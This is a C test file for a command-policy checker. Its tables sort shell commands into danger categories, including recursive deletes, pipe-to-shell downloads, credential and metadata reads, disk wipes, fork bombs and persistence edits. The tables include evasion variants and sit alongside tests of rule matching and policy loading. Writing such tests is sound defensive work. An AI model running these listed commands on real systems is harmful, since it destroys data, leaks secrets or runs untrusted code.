#include "base/cleanup.h"
#include "policy/commands/commands.h"
#include "policy/commands/shell_parse.h"
#include "policy/policy.h"

#include <criterion/criterion.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static const char *const roots[] = {"/workspace", "/tmp", "/home/me/project"};
static const struct command_place at = {roots, 3, "/workspace"};

static struct origin from_file = {.kind = ORIGIN_FILE, .name = "p.yaml", .line = 1, .column = 1};

#define ARGV(...) ((char *const[]){__VA_ARGS__, NULL})

static enum command_shape shape_of(char *const argv[])
{
    struct commands c = {.given = true, .dangerous = COMMAND_ASK};
    struct command_verdict v;
    commands_judge(&c, argv, &at, &v);
    cr_assert(v.rule == (v.shape ? COMMAND_ASK : COMMAND_ALLOW));
    return v.shape;
}

static enum command_shape shell_shape(const char *text)
{
    return shape_of(ARGV("sh", "-c", (char *)text));
}

/* ---- shapes, and what looks like them ---- */

struct shaped {
    enum command_shape shape;
    const char *text;
};

static const struct shaped shaped[] = {
    /* delete */
    {SHAPE_DELETE, "rm -rf /"},
    {SHAPE_DELETE, "rm -fr /srv/data"},
    {SHAPE_DELETE, "rm -r -f ~"},
    {SHAPE_DELETE, "rm --recursive ~/Documents"},
    {SHAPE_DELETE, "rm -Rf ../other"},
    {SHAPE_DELETE, "rm -rf build ../other"},
    {SHAPE_DELETE, "rm -rf \"$DIR\""},
    {SHAPE_DELETE, "rm -rf $HOME/x"},
    {SHAPE_DELETE, "rm -rf ."},
    {SHAPE_DELETE, "rm -rf *"},
    {SHAPE_DELETE, "rm -rf ./*"},
    {SHAPE_DELETE, "rm -rf /workspace"},
    {SHAPE_DELETE, "rm -rf /workspace/../etc"},
    {SHAPE_DELETE, "rm -rf a/../.."},
    {SHAPE_DELETE, "rm -rf -- -x /etc"},
    {SHAPE_DELETE, "/bin/rm -rf /etc"},
    {SHAPE_DELETE, "\\rm -rf /etc"},
    {SHAPE_DELETE, "'r'm -rf /etc"},
    {SHAPE_DELETE, "sudo rm -rf /etc"},
    {SHAPE_DELETE, "sudo -u root -E rm -rf /etc"},
    {SHAPE_DELETE, "env A=1 nice -n 5 rm -rf /etc"},
    {SHAPE_DELETE, "timeout 5 rm -rf /etc"},
    {SHAPE_DELETE, "cd / && rm -rf build"},
    {SHAPE_DELETE, "cd; rm -rf build"},
    {SHAPE_DELETE, "cd .. ; rm -rf build"},
    {SHAPE_DELETE, "ls | xargs rm -rf"},
    {SHAPE_DELETE, "find / -name x -delete"},
    {SHAPE_DELETE, "find /etc -exec rm {} \\;"},
    {SHAPE_DELETE, "if true; then rm -rf /etc; fi"},
    {SHAPE_DELETE, "for f in a b; do rm -rf /etc/$f; done"},
    {SHAPE_DELETE, "while read x; do rm -rf /etc; done"},
    {SHAPE_DELETE, "case $x in a) rm -rf /etc ;; esac"},
    {SHAPE_DELETE, "(true; rm -rf /etc)"},
    {SHAPE_DELETE, "{ rm -rf /etc; }"},
    {SHAPE_DELETE, "f() { rm -rf /etc; }; f"},
    {SHAPE_DELETE, "function f { rm -rf /etc; }; f"},
    {SHAPE_DELETE, "echo $(rm -rf /etc)"},
    {SHAPE_DELETE, "echo \"`rm -rf /etc`\""},
    {SHAPE_DELETE, "x=$(rm -rf /etc)"},
    {SHAPE_DELETE, "bash -c 'rm -rf /etc'"},
    {SHAPE_DELETE, "bash -lc \"sh -c 'rm -rf /etc'\""},
    {SHAPE_DELETE, "eval rm -rf /etc"},
    {SHAPE_DELETE, "eval 'rm -rf /etc'"},
    {SHAPE_DELETE, "bash <<EOF\nrm -rf /etc\nEOF\n"},
    {SHAPE_DELETE, "cat <<EOF\n$(rm -rf /etc)\nEOF\n"},
    {SHAPE_DELETE, "true # fine\nrm -rf /etc"},
    {SHAPE_DELETE, "rm \\\n -rf /etc"},
    {SHAPE_DELETE, "busybox rm -rf /etc"},
    {SHAPE_NONE, "rm -rf build"},
    {SHAPE_NONE, "rm -rf ./build"},
    {SHAPE_NONE, "rm -rf ./build/../dist"},
    {SHAPE_NONE, "rm -rf build/*"},
    {SHAPE_NONE, "rm -rf /workspace/build /tmp/x"},
    {SHAPE_NONE, "rm -rf /home/me/project/node_modules"},
    {SHAPE_NONE, "rm -rf \"$PWD/build\""},
    {SHAPE_NONE, "rm -rf \"${TMPDIR}/x\""},
    {SHAPE_NONE, "cd build && rm -rf *"},
    {SHAPE_NONE, "rm /etc/hosts"},
    {SHAPE_NONE, "rm -f ~/x"},
    {SHAPE_NONE, "rm -- -r /etc"},
    {SHAPE_NONE, "echo rm -rf /"},
    {SHAPE_NONE, "echo 'rm -rf /'"},
    {SHAPE_NONE, "git commit -m 'rm -rf /'"},
    {SHAPE_NONE, "# rm -rf /"},
    {SHAPE_NONE, "grep -r rm /etc"},
    {SHAPE_NONE, "find . -name '*.pyc' -delete"},
    {SHAPE_NONE, "find / -name x"},
    {SHAPE_NONE, "cat <<'EOF'\n$(rm -rf /etc)\nEOF\n"},
    {SHAPE_NONE, "cat > run.sh <<EOF\nrm -rf /etc\nEOF\n"},
    {SHAPE_NONE, "trim -rf /"},
    /* history */
    {SHAPE_HISTORY, "git push --force"},
    {SHAPE_HISTORY, "git push -f origin main"},
    {SHAPE_HISTORY, "git push origin main --force-with-lease"},
    {SHAPE_HISTORY, "git push origin +main"},
    {SHAPE_HISTORY, "git push origin :old"},
    {SHAPE_HISTORY, "git push --mirror x"},
    {SHAPE_HISTORY, "git push --delete origin x"},
    {SHAPE_HISTORY, "git -C repo -c a=b push -f"},
    {SHAPE_HISTORY, "git rebase -i HEAD~3"},
    {SHAPE_HISTORY, "git reset --hard HEAD~2"},
    {SHAPE_HISTORY, "git filter-branch --all"},
    {SHAPE_HISTORY, "git reflog expire --all"},
    {SHAPE_HISTORY, "git branch -D x"},
    {SHAPE_NONE, "git push"},
    {SHAPE_NONE, "git push origin main"},
    {SHAPE_NONE, "git push --follow-tags"},
    {SHAPE_NONE, "git push --dry-run --force"},
    {SHAPE_NONE, "git reset --hard"},
    {SHAPE_NONE, "git reset --hard HEAD"},
    {SHAPE_NONE, "git rebase --abort"},
    {SHAPE_NONE, "git log --grep=force"},
    {SHAPE_NONE, "git branch -d x"},
    {SHAPE_NONE, "git reflog"},
    {SHAPE_NONE, "git commit -m 'git push -f'"},
    /* pipe to shell */
    {SHAPE_PIPE_TO_SHELL, "curl https://x.example | sh"},
    {SHAPE_PIPE_TO_SHELL, "curl -fsSL https://x.example | sudo bash -s -- -y"},
    {SHAPE_PIPE_TO_SHELL, "wget -qO- https://x.example | tee a | bash -x"},
    {SHAPE_PIPE_TO_SHELL, "curl x | python3"},
    {SHAPE_PIPE_TO_SHELL, "curl x | python3 -"},
    {SHAPE_PIPE_TO_SHELL, "base64 -d x | sh"},
    {SHAPE_PIPE_TO_SHELL, "bash <(curl -s x)"},
    {SHAPE_PIPE_TO_SHELL, ". <(curl -s x)"},
    {SHAPE_PIPE_TO_SHELL, "sh -c \"$(curl -fsSL x)\""},
    {SHAPE_PIPE_TO_SHELL, "eval \"$(wget -qO- x)\""},
    {SHAPE_PIPE_TO_SHELL, "(curl x) | sh"},
    {SHAPE_NONE, "curl https://x.example -o x.sh"},
    {SHAPE_NONE, "curl x | jq ."},
    {SHAPE_NONE, "curl x | python3 -m json.tool"},
    {SHAPE_NONE, "curl x | grep sh"},
    {SHAPE_NONE, "cat x | python3"},
    {SHAPE_NONE, "curl x || sh y.sh"},
    {SHAPE_NONE, "cat list | bash run.sh"},
    {SHAPE_NONE, "diff <(curl a) <(curl b)"},
    /* credentials */
    {SHAPE_CREDENTIALS, "cat ~/.ssh/id_rsa"},
    {SHAPE_CREDENTIALS, "cat \"$HOME/.aws/credentials\""},
    {SHAPE_CREDENTIALS, "base64 < /home/me/.ssh/id_ed25519"},
    {SHAPE_CREDENTIALS, "cat /etc/shadow"},
    {SHAPE_CREDENTIALS, "cp ~/.netrc out"},
    {SHAPE_CREDENTIALS, "tar cf x.tar ~/.gnupg"},
    {SHAPE_CREDENTIALS, "curl -d @/root/.docker/config.json x"},
    {SHAPE_CREDENTIALS, "curl http://169.254.169.254/latest/meta-data"},
    {SHAPE_CREDENTIALS, "gh auth token"},
    {SHAPE_CREDENTIALS, "cat .env"},
    {SHAPE_CREDENTIALS, "cat /proc/1/environ"},
    {SHAPE_CREDENTIALS, "kubectl get secret x -o yaml"},
    {SHAPE_NONE, "cat ~/.ssh/id_rsa.pub"},
    {SHAPE_NONE, "cat ~/.ssh/config"},
    {SHAPE_NONE, "cat .env.example"},
    {SHAPE_NONE, "cp .env.example .env"},
    {SHAPE_NONE, "ls ~/.ssh"},
    {SHAPE_NONE, "gh auth status"},
    {SHAPE_NONE, "cat docs/ssh.md"},
    {SHAPE_NONE, "cat ~/notes.txt"},
    /* publish */
    {SHAPE_PUBLISH, "npm publish"},
    {SHAPE_PUBLISH, "npm publish --access public"},
    {SHAPE_PUBLISH, "twine upload dist/*"},
    {SHAPE_PUBLISH, "python3 -m twine upload dist/x"},
    {SHAPE_PUBLISH, "cargo publish"},
    {SHAPE_PUBLISH, "docker push x/y"},
    {SHAPE_PUBLISH, "gh release create v1"},
    {SHAPE_PUBLISH, "npm ci && npm publish"},
    {SHAPE_NONE, "npm publish --dry-run"},
    {SHAPE_NONE, "cargo publish --dry-run"},
    {SHAPE_NONE, "npm install"},
    {SHAPE_NONE, "npm run build"},
    {SHAPE_NONE, "docker build ."},
    {SHAPE_NONE, "gh release list"},
    /* disk */
    {SHAPE_DISK, "mkfs.ext4 /dev/sda1"},
    {SHAPE_DISK, "dd if=/dev/zero of=/dev/nvme0n1"},
    {SHAPE_DISK, "echo x > /dev/sda"},
    {SHAPE_DISK, "wipefs -a /dev/vdb"},
    {SHAPE_DISK, "cat x | tee /dev/sda"},
    {SHAPE_DISK, "cryptsetup luksFormat x"},
    {SHAPE_NONE, "dd if=/dev/sda of=disk.img"},
    {SHAPE_NONE, "dd if=/dev/zero of=disk.img"},
    {SHAPE_NONE, "mkfs.ext4 disk.img"},
    {SHAPE_NONE, "fdisk -l /dev/sda"},
    {SHAPE_NONE, "echo x > /dev/null"},
    {SHAPE_NONE, "echo x 2>/dev/null >&2"},
    {SHAPE_NONE, "cp /dev/stdin x"},
    /* fork bombs */
    {SHAPE_FORK_BOMB, ":(){ :|:& };:"},
    {SHAPE_FORK_BOMB, ":() { : | : & } ; :"},
    {SHAPE_FORK_BOMB, "b() { b & b & }; b"},
    {SHAPE_FORK_BOMB, "function b { b | b & }; b"},
    {SHAPE_FORK_BOMB, "perl -e 'fork while fork'"},
    {SHAPE_NONE, "f() { f2 | g & }; f"},
    {SHAPE_NONE, "f() { [ $1 -gt 0 ] && f $(($1 - 1)); }; f 3"},
    /* owners, what runs later, power */
    {SHAPE_PERMISSIONS, "chmod -R 777 /"},
    {SHAPE_PERMISSIONS, "chown -R me ~"},
    {SHAPE_NONE, "chmod -R u+w build"},
    {SHAPE_NONE, "chmod 755 /usr/local/bin/x"},
    {SHAPE_PERSISTENCE, "echo x >> ~/.bashrc"},
    {SHAPE_PERSISTENCE, "cat k >> ~/.ssh/authorized_keys"},
    {SHAPE_PERSISTENCE, "crontab x"},
    {SHAPE_PERSISTENCE, "cp hook .git/hooks/pre-commit"},
    {SHAPE_NONE, "crontab -l"},
    {SHAPE_NONE, "cat ~/.bashrc"},
    {SHAPE_NONE, "echo x >> notes"},
    {SHAPE_POWER, "shutdown -h now"},
    {SHAPE_POWER, "sudo reboot"},
    {SHAPE_POWER, "kill -9 -1"},
    {SHAPE_NONE, "kill -1 123"},
    {SHAPE_NONE, "kill -9 123"},
    {SHAPE_NONE, "make shutdown"},
    /* what cannot be told */
    {SHAPE_UNKNOWN, "$CMD x"},
    {SHAPE_UNKNOWN, "`cat cmd` x"},
    {SHAPE_UNKNOWN, "eval \"$x\""},
    {SHAPE_UNKNOWN, "bash -c \"$x\""},
    {SHAPE_UNKNOWN, "$'\\x72m' -rf /"},
    {SHAPE_UNKNOWN, "{rm,-rf,/}"},
    {SHAPE_UNKNOWN, "/bin/r? -rf /"},
    {SHAPE_UNKNOWN, "echo 'x"},
    {SHAPE_UNKNOWN, "echo \"x"},
    {SHAPE_UNKNOWN, "echo $(x"},
    {SHAPE_UNKNOWN, "echo ${x:-$(rm -rf /etc)}"},
    {SHAPE_NONE, "echo $x ${y} \"$z\" $((1 + 2))"},
    {SHAPE_NONE, "[[ $a == b && -f c ]] && echo d"},
    {SHAPE_NONE, "((i++)); echo $i"},
    {SHAPE_NONE, "a=(1 2 3); echo ${a[0]}"},
    {SHAPE_NONE, "X=1 Y=2 make -j4 2>&1 | tee log | tail -5"},
    {SHAPE_NONE, "case $1 in (a|b) echo x;; *) echo y;; esac"},
    {SHAPE_NONE, "for i in $(seq 3); do echo $i; done > out 2>&1 &"},
    {SHAPE_NONE, ""},
};

Test(commands, shapes)
{
    for (size_t i = 0; i < ARRAY_LEN(shaped); i++) {
        enum command_shape got = shell_shape(shaped[i].text);
        cr_expect(got == shaped[i].shape, "%s: %s, expected %s", shaped[i].text,
                  command_shape_name(got), command_shape_name(shaped[i].shape));
    }
}

Test(commands, shapes_without_a_shell)
{
    cr_expect(shape_of(ARGV("rm", "-rf", "/etc")) == SHAPE_DELETE);
    cr_expect(shape_of(ARGV("rm", "-rf", "./build")) == SHAPE_NONE);
    /* No shell, no expansion: these are names of files. */
    cr_expect(shape_of(ARGV("rm", "-rf", "$HOME")) == SHAPE_NONE);
    cr_expect(shape_of(ARGV("rm", "-rf", "a;b")) == SHAPE_NONE);
    cr_expect(shape_of(ARGV("echo", "$(rm -rf /etc)")) == SHAPE_NONE);
    cr_expect(shape_of(ARGV("curl", "x", "|", "sh")) == SHAPE_NONE);
    cr_expect(shape_of(ARGV("bash", "-euo", "pipefail", "-c", "curl x | sh")) ==
              SHAPE_PIPE_TO_SHELL);
    cr_expect(shape_of(ARGV("sudo", "--", "sh", "-c", "rm -rf /etc")) == SHAPE_DELETE);
    cr_expect(shape_of(ARGV("bash", "rm", "-rf", "/")) == SHAPE_NONE);
    cr_expect(shape_of(ARGV("bash")) == SHAPE_NONE);
}

Test(commands, a_folder_outside_makes_relative_paths_dangerous)
{
    struct commands c = {.given = true, .dangerous = COMMAND_ASK};
    struct command_place elsewhere = {roots, 3, "/srv"};
    struct command_verdict v;
    commands_judge(&c, ARGV("rm", "-rf", "build"), &elsewhere, &v);
    cr_expect(v.shape == SHAPE_DELETE);
    commands_judge(&c, ARGV("rm", "-rf", "build"), &at, &v);
    cr_expect(v.shape == SHAPE_NONE);
}

/* ---- lists ---- */

struct matched {
    const char *pattern;
    bool match;
    char *argv[6];
};

static const struct matched matched[] = {
    {"git", true, {"git"}},
    {"git", true, {"/usr/bin/git"}},
    {"git", false, {"git", "push"}},
    {"git", false, {"gitk"}},
    {"git *", true, {"git"}},
    {"git *", true, {"git", "push", "-f"}},
    {"git **", true, {"git", "a", "b"}},
    {"git push", true, {"git", "push"}},
    {"git push", false, {"git", "push", "-f"}},
    {"git push ** --force **", true, {"git", "push", "origin", "--force", "x"}},
    {"git push ** --force **", true, {"git", "push", "--force"}},
    {"git push ** --force **", false, {"git", "push", "--forces"}},
    {"git * origin", true, {"git", "fetch", "origin"}},
    {"git * origin", false, {"git", "fetch", "a", "origin"}},
    {"/usr/bin/git *", true, {"/usr/bin/git", "x"}},
    {"/usr/bin/git *", false, {"git", "x"}},
    {"python3* *", true, {"/usr/bin/python3.11", "x"}},
    {"ls -?", true, {"ls", "-l"}},
    {"ls -?", false, {"ls", "-la"}},
    {"echo 'a b'", true, {"echo", "a b"}},
    {"echo 'a b'", false, {"echo", "a", "b"}},
    {"echo \\*", true, {"echo", "*"}},
    {"echo \\*", false, {"echo", "a"}},
    {"cat *.txt", true, {"cat", "a/b.txt"}},
    {"cat *.txt", false, {"cat", "a.txt.c"}},
    {"b b a", true, {"b", "b", "a"}},
};

Test(commands, patterns)
{
    for (size_t i = 0; i < ARRAY_LEN(matched); i++) {
        struct commands c = {0};
        struct err err = ERR_INIT;
        size_t argc = 0;
        while (matched[i].argv[argc])
            argc++;
        cr_assert(commands_add(&c, COMMAND_DENY, matched[i].pattern, &from_file, &err) == 0, "%s",
                  err.message);
        cr_expect(command_pattern_match(&c.patterns[0], (const char *const *)matched[i].argv,
                                        argc) == matched[i].match,
                  "%s", matched[i].pattern);
        commands_done(&c);
    }
}

static void load(struct policy *p, const char *text)
{
    struct err err = ERR_INIT;
    cr_assert(policy_init(p, LEVEL_HIGH) == 0);
    cr_assert(policy_load(p, "p.yaml", text, strlen(text), &err) == 0, "%s", err.message);
}

static enum command_rule judge(const struct policy *p, char *const argv[])
{
    struct command_verdict v;
    commands_judge(&p->commands, argv, &at, &v);
    return v.rule;
}

Test(commands, deny_above_ask_above_allow)
{
    struct policy p;
    load(&p, "commands:\n  default: deny\n  allow: [\"git *\", ls]\n  ask: [\"git push **\"]\n"
             "  deny: [\"git push ** --force **\"]\n");
    cr_expect(judge(&p, ARGV("git", "status")) == COMMAND_ALLOW);
    cr_expect(judge(&p, ARGV("git", "push")) == COMMAND_ASK);
    cr_expect(judge(&p, ARGV("git", "push", "--force")) == COMMAND_DENY);
    cr_expect(judge(&p, ARGV("ls")) == COMMAND_ALLOW);
    cr_expect(judge(&p, ARGV("ls", "-l")) == COMMAND_DENY);
    cr_expect(judge(&p, ARGV("make")) == COMMAND_DENY);
    /* Inside of a shell the same, the strictest counts. */
    cr_expect(judge(&p, ARGV("sh", "-c", "git status; ls")) == COMMAND_ALLOW);
    cr_expect(judge(&p, ARGV("sh", "-c", "git status && git push")) == COMMAND_ASK);
    cr_expect(judge(&p, ARGV("sh", "-c", "git status | make")) == COMMAND_DENY);
    cr_expect(judge(&p, ARGV("sh", "-c", "git status; $X")) == COMMAND_DENY);
    cr_expect(judge(&p, ARGV("sh", "-c", "git status 'x")) == COMMAND_DENY);
    cr_expect(judge(&p, ARGV("env", "A=b", "git", "status")) == COMMAND_ALLOW);
    cr_expect(judge(&p, ARGV("sudo", "make")) == COMMAND_DENY);
    policy_done(&p);
}

Test(commands, a_star_does_not_stand_above_a_shape_and_the_very_command_does)
{
    struct policy p;
    load(&p, "commands:\n  dangerous: deny\n  allow: [\"rm *\", \"rm -rf /srv/cache\"]\n");
    cr_expect(judge(&p, ARGV("rm", "-rf", "/etc")) == COMMAND_DENY);
    cr_expect(judge(&p, ARGV("rm", "-rf", "/srv/cache")) == COMMAND_ALLOW);
    cr_expect(judge(&p, ARGV("sh", "-c", "rm -rf /srv/cache")) == COMMAND_ALLOW);
    cr_expect(judge(&p, ARGV("sh", "-c", "rm -rf /srv/cache; rm -rf /srv/other")) == COMMAND_DENY);
    cr_expect(judge(&p, ARGV("make")) == COMMAND_ALLOW);
    policy_done(&p);
}

Test(commands, an_allowed_shell_may_start_what_no_list_names)
{
    struct policy p;
    load(&p, "commands:\n  default: deny\n  allow: [\"bash *\"]\n  deny: [\"curl *\"]\n");
    cr_expect(judge(&p, ARGV("bash", "-c", "make test")) == COMMAND_ALLOW);
    cr_expect(judge(&p, ARGV("bash", "-c", "make; curl x")) == COMMAND_DENY);
    cr_expect(judge(&p, ARGV("sh", "-c", "make test")) == COMMAND_DENY);
    policy_done(&p);
}

Test(commands, nothing_is_looked_at_where_nothing_was_said)
{
    struct policy p;
    load(&p, "level: high\n");
    cr_expect(judge(&p, ARGV("rm", "-rf", "/")) == COMMAND_ALLOW);
    policy_done(&p);
}

Test(commands, the_reason_is_told)
{
    struct policy p;
    struct command_verdict v;
    cleanup_buf struct buf text;
    buf_init(&text, 500);
    load(&p, "commands:\n  dangerous: ask\n  deny: [\"curl *\"]\n");
    commands_judge(&p.commands, ARGV("sh", "-c", "make && rm -rf /etc"), &at, &v);
    command_verdict_reason(&v, &text);
    cr_expect(strstr(buf_text(&text), "recursive-delete") != NULL);
    cr_expect_str_eq(v.what, "rm -rf /etc");
    buf_reset(&text);
    commands_judge(&p.commands, ARGV("curl", "x"), &at, &v);
    command_verdict_reason(&v, &text);
    cr_expect_str_eq(buf_text(&text), "commands.deny: curl *");
    policy_done(&p);
}

/* ---- the section ---- */

static const char *const wrong[] = {
    "commands: 1\n",
    "commands: []\n",
    "commands:\n  deny: x\n",
    "commands:\n  deny: [1]\n",
    "commands:\n  deny: [\"\"]\n",
    "commands:\n  deny: [\"a 'b\"]\n",
    "commands:\n  deny: [\"a\\u0007\"]\n",
    "commands:\n  dangerous: maybe\n",
    "commands:\n  dangerous: true\n",
    "commands:\n  default: null\n",
    "commands:\n  denied: []\n",
    "network:\n  ask: 1\n",
    "network:\n  ask: []\n",
    "network:\n  ask: [1]\n",
    "network:\n  ask: [10.0.0.1]\n",
    "network:\n  ask: [\"http://x\"]\n",
    "network:\n  mode: \"off\"\n  ask: true\n",
};

Test(commands, what_is_not_understood_is_an_error)
{
    for (size_t i = 0; i < ARRAY_LEN(wrong); i++) {
        struct policy p;
        struct err err = ERR_INIT;
        policy_init(&p, LEVEL_HIGH);
        int r = policy_load(&p, "p.yaml", wrong[i], strlen(wrong[i]), &err);
        if (r == 0)
            r = policy_validate(&p, &err);
        cr_expect(r < 0, "%s", wrong[i]);
        cr_expect(err.message[0]);
        policy_done(&p);
    }
}

static void canonical(const struct policy *p, struct buf *out)
{
    buf_init(out, 1 << 20);
    policy_canonical(p, out);
}

Test(commands, reads_back_and_one_order)
{
    static const char text[] = "commands:\n  dangerous: ask\n  default: deny\n"
                               "  allow: [\"b *\", \"a\"]\n  deny: [\"x 'y z'\"]\n"
                               "network:\n  ask: [\"*.b.example\", a.example]\n";
    static const char other[] = "network:\n  ask: [a.example, \"*.b.example\"]\n"
                                "commands:\n  deny: [\"x 'y z'\"]\n  allow: [\"a\", \"b *\"]\n"
                                "  default: deny\n  dangerous: ask\n";
    struct policy p, q, y, j;
    cleanup_buf struct buf one, two, three, four, yaml, json;
    load(&p, text);
    load(&q, other);
    buf_init(&yaml, 1 << 20);
    buf_init(&json, 1 << 20);
    policy_show_yaml(&p, &yaml);
    policy_show_json(&p, &json);
    load(&y, buf_text(&yaml));
    load(&j, buf_text(&json));
    canonical(&p, &one);
    canonical(&q, &two);
    canonical(&y, &three);
    canonical(&j, &four);
    cr_expect_str_eq(buf_text(&one), buf_text(&two));
    cr_expect_str_eq(buf_text(&one), buf_text(&three));
    cr_expect_str_eq(buf_text(&one), buf_text(&four));
    cr_expect(strstr(buf_text(&one), "\"commands\"") != NULL);
    policy_done(&p);
    policy_done(&q);
    policy_done(&y);
    policy_done(&j);
}

Test(commands, a_policy_without_the_section_has_the_hash_it_always_had)
{
    struct policy p;
    cleanup_buf struct buf one;
    load(&p, "level: high\n");
    canonical(&p, &one);
    cr_expect(strstr(buf_text(&one), "commands") == NULL);
    cr_expect(strstr(buf_text(&one), "\"ask\"") == NULL);
    policy_done(&p);
}

struct tightened {
    const char *have, *want;
    bool granted;
};

static const struct tightened tightened[] = {
    {"level: high\n", "commands: {dangerous: deny}\n", true},
    {"level: high\n", "commands: {default: deny, allow: [ls]}\n", true},
    {"commands: {dangerous: ask}\n", "commands: {dangerous: deny}\n", true},
    {"commands: {dangerous: ask}\n", "commands: {dangerous: allow}\n", false},
    {"commands: {default: deny}\n", "commands: {default: ask}\n", false},
    {"commands: {default: deny, allow: [ls, cat]}\n", "commands: {allow: [ls]}\n", true},
    {"commands: {default: deny, allow: [ls]}\n", "commands: {allow: [make]}\n", false},
    {"commands: {dangerous: ask}\n", "commands: {allow: [\"rm -rf /etc\"]}\n", false},
    {"commands: {dangerous: ask}\n", "commands: {deny: [make], ask: [ls]}\n", true},
    {"network: {ask: true}\n", "network: {ask: false}\n", true},
    {"network: {ask: true}\n", "network: {ask: [a.example]}\n", true},
    {"network: {ask: [\"*.example\"]}\n", "network: {ask: [a.example]}\n", true},
    {"network: {ask: [a.example]}\n", "network: {ask: [b.example]}\n", false},
    {"network: {ask: [a.example]}\n", "network: {ask: true}\n", false},
    {"network: {mode: allowlist}\n", "network: {ask: true}\n", false},
};

Test(commands, requests_only_tighten)
{
    for (size_t i = 0; i < ARRAY_LEN(tightened); i++) {
        struct policy p, q;
        struct err err = ERR_INIT;
        load(&p, tightened[i].have);
        load(&q, tightened[i].want);
        int r = policy_tighten(&p, &q, &err);
        cr_expect((r == 0) == tightened[i].granted, "%s over %s: %s", tightened[i].want,
                  tightened[i].have, err.message);
        policy_done(&p);
        policy_done(&q);
    }
}

Test(commands, tightened_rules_are_in_force)
{
    struct policy p, q;
    struct err err = ERR_INIT;
    load(&p, "commands: {default: deny, allow: [ls, cat]}\n");
    load(&q, "commands: {allow: [ls], deny: [make]}\n");
    cr_assert(policy_tighten(&p, &q, &err) == 0);
    cr_expect(judge(&p, ARGV("ls")) == COMMAND_ALLOW);
    cr_expect(judge(&p, ARGV("cat")) == COMMAND_DENY);
    policy_done(&p);
    policy_done(&q);
}

/* ---- who is asked about ---- */

Test(commands, hosts_that_may_be_asked_about)
{
    static const struct {
        const char *policy, *host;
        bool asked;
    } rows[] = {
        {"network: {ask: true}\n", "a.example", true},
        {"network: {ask: [\"*.example\"]}\n", "a.example", true},
        {"network: {ask: [\"*.example\"]}\n", "a.test", false},
        {"network: {ask: true, block: [a.example]}\n", "a.example", false},
        {"network: {ask: true}\n", "169.254.169.254", false},
        {"network: {ask: true}\n", "10.0.0.1", false},
        {"network: {ask: true}\n", "8.8.8.8", false},
        {"network: {mode: allowlist}\n", "a.example", false},
        {"network: {ask: false}\n", "a.example", false},
    };
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        struct policy p;
        struct host h;
        load(&p, rows[i].policy);
        cr_assert(host_parse(rows[i].host, strlen(rows[i].host), false, &h, NULL) == 0);
        cr_expect(egress_asks(&p.egress, &h) == rows[i].asked, "%s %s", rows[i].policy,
                  rows[i].host);
        policy_done(&p);
    }
}

/* ---- the reader of shells ---- */

static void words_are(const char *text, const char *expected)
{
    struct shell_script s;
    cleanup_buf struct buf got;
    buf_init(&got, 10000);
    shell_parse(text, strlen(text), &s);
    for (uint32_t i = 0; i < s.command_count; i++) {
        for (uint32_t k = 0; k < s.commands[i].count; k++)
            buf_fmt(&got, "[%s%s]", shell_text(&s, s.commands[i].first + k),
                    s.words[s.commands[i].first + k].dynamic ? "!" : "");
        buf_str(&got, s.commands[i].background ? "&" : ";");
    }
    cr_expect(strcmp(buf_text(&got), expected) == 0, "%s: %s, expected %s", text, buf_text(&got),
              expected);
    shell_done(&s);
}

Test(shell, words)
{
    words_are("a b  c", "[a][b][c];");
    words_are("a 'b c' \"d e\" f\\ g", "[a][b c][d e][f g];");
    words_are("a\"b\"'c'", "[abc];");
    words_are("a \"$b\" $c", "[a][$b!][$c!];");
    words_are("a '' \"\"", "[a][][];");
    words_are("a;b&&c||d|e&f", "[a];[b];[c];[d]&[e]&[f];");
    words_are("X=1 Y= a", "[a];");
    words_are("a $(b c) d", "[b][c];[a][!][d];");
    words_are("a x$(b)y", "[b];[a][xy!];");
    words_are("a `b \\`c\\``", "[c];[b][!];[a][!];");
    words_are("a <<E\nx $(b)\nE\nc", "[a];[b];[c];");
    words_are("a <<'E'\nx $(b)\nE\nc", "[a];[c];");
    words_are("a <<-E\n\tx\n\tE\nc", "[a];[c];");
    words_are("a > x 2>&1 < y", "[a];");
    words_are("a\\\nb", "[ab];");
    words_are("a #b\nc#d", "[a];[c#d];");
    words_are("! a", "[a];");
    words_are("if a; then b; elif c; then d; else e; fi", "[a];[b];[c];[d];[e];");
    words_are("for i in 1 2; do a; done", "[a];");
    words_are("case x in a|b) c;; *) d;; esac; e", "[c];[d];[e];");
    words_are("f() { a; }; b", "[a];[b];");
    words_are("(a; b) | c", "[a];[b];[c];");
}

/* ---- how long it takes (CMD-4) ---- */

static char *repeat(const char *before, const char *what, size_t times, const char *after)
{
    struct buf out;
    buf_init(&out, 64u << 20);
    buf_str(&out, before);
    for (size_t i = 0; i < times; i++)
        buf_str(&out, what);
    buf_str(&out, after);
    cr_assert_not(out.failed);
    return out.data;
}

static double seconds_of(const struct commands *c, char *const argv[], struct command_verdict *v)
{
    struct timespec from, to;
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &from);
    commands_judge(c, argv, &at, v);
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &to);
    return (double)(to.tv_sec - from.tv_sec) + (double)(to.tv_nsec - from.tv_nsec) / 1e9;
}

/* Under sanitizers it takes five times as long. Without a bound some of these took from 0.4 s to
 * minutes. */
#define NOT_LONG 0.3

static void expect_quick(const char *rules, char *const argv[], enum command_rule rule,
                         const char *what)
{
    struct policy p;
    struct command_verdict v;
    load(&p, rules);
    double seconds = seconds_of(&p.commands, argv, &v);
    cr_expect(seconds < NOT_LONG, "%s: %.3f s", what, seconds);
    cr_expect(v.rule == rule, "%s: %s (%s)", what, command_rule_name(v.rule), v.rule_text);
    policy_done(&p);
}

/* Whoever asks chooses both: a request to the daemon may bring patterns of its own. */
Test(commands, no_pattern_takes_long)
{
    char *rules = repeat("commands:\n  deny: [\"echo *", "a", 1000, "b\"]\n");
    char *more = repeat("commands:\n  deny: [\"echo **", " a", 60, " b\"]\n");
    char *word = repeat("", "a", 16u << 20, ""), *medium = repeat("", "a", 120000, "");
    char **words = calloc(16385, sizeof *words);
    words[0] = "echo";
    for (size_t i = 1; i < 16384; i++)
        words[i] = "a";
    expect_quick(rules, ARGV("echo", word), COMMAND_DENY, "a word of 16 MiB");
    expect_quick(rules, ARGV("echo", medium), COMMAND_DENY, "a word of 120 kB");
    expect_quick(more, words, COMMAND_DENY, "16384 words");
    /* Control: what is not that long is told apart. */
    expect_quick(rules, ARGV("echo", "aaaa"), COMMAND_ALLOW, "a short word");
    word[4000] = '\0';
    expect_quick(rules, ARGV("echo", word), COMMAND_ALLOW, "a word of 4000 bytes");
    words[40] = NULL;
